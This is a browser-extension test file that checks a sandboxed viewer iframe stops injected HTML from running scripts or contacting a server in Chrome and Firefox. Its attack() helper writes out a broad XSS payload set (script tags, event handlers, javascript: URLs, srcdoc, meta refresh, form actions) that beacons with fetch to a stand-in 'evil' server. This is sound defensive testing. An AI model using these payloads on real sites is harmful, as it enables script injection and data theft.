// The frame by itself, without the sanitiser before it, in true pages of the built extension in both browsers: whatever gets into its document, in
// whichever mode that is written, nothing of it runs, leads anywhere or reaches a server.
import { fileURLToPath } from 'node:url';
import type { Browser, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type * as FrameSource from '../../extension/viewer/frameSource.ts';
import { documentModes } from '../../protocol/opCodes.ts';
import { bundle } from '../harness/bundle.ts';
import { openExtensionPage } from '../harness/extensionPage.ts';
import { servePages } from '../harness/serve.ts';
import type { PageServer } from '../harness/serve.ts';

declare const frameSource_: typeof FrameSource;

/** All at once, into an open document: what a sanitiser that failed would let through. */
function attack(evil: string): string {
  const run = (name: string) =>
    `parent.alongsideHacked='${name}';window.alongsideHacked='${name}';fetch('${evil}/ran-${name}')`;
  return `<script>${run('parsed')}</script><script src="${evil}/script.js"></script><img src="x:" onerror="${run('error')}"><body onload="${run('load')}">
    <svg onload="${run('svg')}"><script>${run('svg-script')}</script><animate onbegin="${run('begin')}" attributeName="x" dur="1s"/></svg>
    <iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe><iframe src="${evil}/frame"></iframe><iframe src="javascript:${run('frame')}"></iframe>
    <object data="${evil}/object"></object><embed src="${evil}/embed"><link rel="preload" as="fetch" href="${evil}/preload"><link rel="modulepreload" href="${evil}/module.js">
    <meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"><details open ontoggle="${run('toggle')}"></details><video src="x:" onerror="${run('video')}"></video>
    <style onload="${run('style')}">p { background: url("javascript:${run('css')}") }</style><input autofocus onfocus="${run('focus')}"><button id="button" onclick="${run('click')}">b</button>
    <form id="form" action="${evil}/form" target="_top"><button id="send" formaction="${evil}/formaction">s</button></form><a id="js" href="javascript:${run('link')}">j</a>`;
}

describe.each(['chrome', 'firefox'] as const)('in the extension for %s', (target) => {
  let browser: Browser;
  let page: Page;
  let evil: PageServer;
  beforeAll(async () => {
    evil = await servePages((path) =>
      path === '/open'
        ? { body: `<!doctype html><body>${attack(evil.origin)}` }
        : {
            body: 'alongsideHacked = 1',
            type: 'text/javascript',
            headers: { 'access-control-allow-origin': '*' },
          },
    );
    ({ browser, page } = await openExtensionPage(target));
    const code = await bundle(
      fileURLToPath(new URL('../../extension/viewer/frameSource.ts', import.meta.url)),
    );
    await page.evaluate(`${code}; globalThis.frameSource_ = bundle; undefined`);
  });
  afterAll(async () => {
    await browser?.close();
    await evil?.close();
  });

  test.each(documentModes)(
    `[VIEW-1] ${target}: nothing runs in a document of mode %s`,
    async (mode) => {
      const found = await page.evaluate(
        async (documentMode, html) => {
          const frame = document.createElement('iframe');
          frame.setAttribute('sandbox', 'allow-same-origin');
          document.body.append(frame);
          const inner = frame.contentDocument!;
          frameSource_.writeDocument(inner, frameSource_.frameSource(true, documentMode));
          const compatMode = inner.compatMode;
          // Parsed into place, and as elements of a script's own making.
          inner.body.innerHTML = html;
          const range = inner.createRange();
          range.selectNodeContents(inner.body);
          inner.body.append(range.createContextualFragment(html));
          const script = inner.createElement('script');
          script.textContent = 'parent.alongsideHacked = window.alongsideHacked = "made"';
          inner.head.append(script);
          inner.body.setAttribute('onclick', 'parent.alongsideHacked = "attribute"');
          for (const element of inner.querySelectorAll<HTMLElement>('#button, #send, #js'))
            element.click();
          inner.querySelector<HTMLFormElement>('form')!.submit();
          // Whatever starts by itself has had the time of several frames and a picture's failure.
          await new Promise((done) => {
            const picture = inner.createElement('img');
            picture.addEventListener('error', done);
            picture.src = 'https://127.0.0.1:1/x.png';
          });
          for (let count = 0; count < 10; count++)
            await new Promise((done) => requestAnimationFrame(done));
          const answer = {
            compatMode,
            hacked: [window, frame.contentWindow!].some((one) => 'alongsideHacked' in one),
            isSame: frame.contentDocument === inner,
            address: location.protocol,
          };
          frame.remove();
          return answer;
        },
        mode,
        attack(evil.origin),
      );
      expect(found).toEqual({
        compatMode: mode === 'quirks' ? 'BackCompat' : 'CSS1Compat',
        hacked: false,
        isSame: true,
        address: expect.stringMatching(/^(chrome|moz)-extension:$/) as string,
      });
      expect(evil.requests).toEqual([]);
    },
  );

  test(`[VIEW-1] ${target}: the probes do reach the server where nothing holds them back`, async () => {
    const open = await browser.newPage();
    // It leads away from itself at once: whether it was ever there is seen by what it has asked for.
    void open.goto(`${evil.origin}/open`).catch(() => undefined);
    await expect
      .poll(() => evil.requests, { timeout: 30_000 })
      .toEqual(expect.arrayContaining(['/ran-parsed', '/ran-error']));
  });
});
